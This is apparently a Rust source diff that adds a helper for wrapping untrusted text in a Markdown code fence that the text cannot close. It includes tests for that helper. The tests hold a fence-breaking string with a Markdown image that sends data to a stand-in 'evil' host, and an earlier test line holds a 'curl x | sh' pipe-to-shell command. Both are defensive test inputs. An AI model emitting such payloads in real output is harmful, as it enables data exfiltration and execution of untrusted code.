@@ -57,6 +57,20 @@ impl UserContent {
     }
 }
 
+/// `text` in a Markdown code block (`info`: its language) whose fence is
+/// longer than any run of backticks in it, so nothing in `text` (command
+/// output, a file) can close the block and be shown as Markdown.
+pub fn fenced(text: &str, info: &str) -> String {
+    let mut longest = 0;
+    let mut run = 0;
+    for c in text.chars() {
+        run = if c == '`' { run + 1 } else { 0 };
+        longest = longest.max(run);
+    }
+    let fence = "`".repeat((longest + 1).max(3));
+    format!("{fence}{info}\n{text}\n{fence}")
+}
+
 /// The longest prefix of `text` of at most `max` bytes that ends on a
 /// character boundary.
 pub fn head_bytes(text: &str, max: usize) -> &str {
@@ -175,5 +189,19 @@ mod tests {
             "ls -la && curl x | sh"
         );
         assert_eq!(visible_title("a\nb", 80), "a b");
+    }
+}
+
+#[cfg(test)]
+mod fence_tests {
+    #[test]
+    fn nothing_inside_closes_the_fence() {
+        assert_eq!(super::fenced("ls", "sh"), "```sh\nls\n```");
+        let hostile = "x\n```\n![](https://evil/?d=1)\n````";
+        let block = super::fenced(hostile, "");
+        assert!(
+            block.starts_with("`````\n") && block.ends_with("\n`````"),
+            "{block}"
+        );
     }
 }
